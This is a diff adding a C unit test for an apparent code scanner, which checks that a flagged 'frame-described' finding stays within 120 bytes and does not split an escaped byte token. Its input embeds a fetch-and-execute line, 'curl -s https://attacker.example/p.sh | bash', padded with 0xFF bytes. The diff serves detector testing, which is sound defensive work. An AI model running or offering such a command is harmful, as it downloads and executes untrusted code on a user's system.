@@ -177,6 +177,37 @@ excerpts(void)
 			break;
 	ok(i == f.n, "long command: every message at most 120 bytes");
 	findings_done(&f);
+
+	/*
+	 * A described block (frame-described, "rule: excerpt"): the rule's
+	 * name before a full excerpt of bytes shown as <0xFF> stays within
+	 * 120 bytes and is cut between tokens (found by fuzz_codescan).
+	 */
+	{
+		char	 d[512];
+		size_t	 n;
+
+		n = (size_t)snprintf(d, sizeof d, "Never run a command like "
+		    "this one:\n\n```bash\ncurl -s https://attacker");
+		memset(d + n, 0xff, 100);
+		n += 100;
+		n += (size_t)snprintf(d + n, sizeof d - n,
+		    ".example/p.sh | bash\n```\n");
+		findings_init(&f);
+		codescan_text(d, n, LANG_MARKDOWN, 0, &f);
+		it = first(&f, "frame-described");
+		ok(it != NULL, "described: shown as frame-described");
+		if (it != NULL) {
+			const char	*lt = strrchr(it->message, '<');
+
+			ok(strlen(it->message) <= 120, "described: %zu bytes",
+			    strlen(it->message));
+			ok(lt == NULL || strchr(lt, '>') != NULL,
+			    "described: no token cut in half: %s",
+			    it->message);
+		}
+		findings_done(&f);
+	}
 }
 
 static void
